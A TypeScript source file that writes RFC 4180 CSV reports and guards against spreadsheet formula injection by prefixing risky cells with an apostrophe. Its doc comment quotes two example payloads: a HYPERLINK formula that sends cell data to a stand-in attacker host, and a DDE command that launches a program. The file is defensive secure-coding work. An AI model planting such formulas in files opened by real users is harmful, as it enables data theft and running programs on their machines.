// What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, and tab or CR,
// which some spreadsheets skip before looking for one of those.
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r']);
// Where a spreadsheet may start a new cell: the delimiters the importer itself reads (`,` `;` tab) and line breaks.
// A file written with `,` is split at `;` by Excel in locales whose list separator is `;` (de, fr, nl, ...).
const SEPARATORS = new Set([',', ';', '\t', '\r', '\n']);
const NEEDS_QUOTES = /[",;\t\r\n]/;

/**
 * Writes rows as RFC 4180 CSV: `,` between cells, CRLF after every row (the last too), and a cell that holds `"`,
 * `,`, `;`, tab, CR or LF quoted with its quotes doubled. Meant for the reports a user downloads (an import's rows,
 * analytics).
 *
 * Those reports echo text from the user's own upload (or a page's referrer), and the file is opened in a
 * spreadsheet, which runs a cell starting with `=`, `+`, `-`, `@`, tab or CR as a formula:
 * `=HYPERLINK("https://evil.example/?"&A1, "Fix")` can send data away, `=cmd|' /C calc'!A0` can run a program
 * (DDE). So, as OWASP advises, such a cell gets a leading `'`, which makes a spreadsheet show it as text. A
 * spreadsheet may also split the file at another delimiter than `,` (Excel in a `;` locale opens `x;=1+1` as two
 * cells, the second a formula, whatever the quotes), so the same goes for every part of a cell after a `,`, `;`,
 * tab or line break: `x;=1+1` is written `"x;'=1+1"`. The price is a visible `'` before a negative number such as
 * "-5"; a report is worth that. For Excel to read non-ASCII text right, serve the result with a byte-order mark in
 * front (`'\uFEFF' + toCsv(rows)`).
 *
 * @example
 * toCsv([['row', 'problem'], ['3', 'width "abc" is not a number'], ['7', '=1+1'], ['8', 'x;=1+1']]);
 * // 'row,problem\r\n3,"width ""abc"" is not a number"\r\n7,\'=1+1\r\n8,"x;\'=1+1"\r\n'
 */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return rows.map((cells) => `${cells.map(toCsvCell).join(',')}\r\n`).join('');
}

/** One cell of {@link toCsv}: formulas neutralised (at its start and after each separator in it), quoted when needed. */
export function toCsvCell(value: string): string {
  let safe = '';
  let cellStart = true;
  for (const ch of value) {
    if (cellStart && FORMULA_START.has(ch)) safe += "'";
    safe += ch;
    cellStart = SEPARATORS.has(ch);
  }
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}
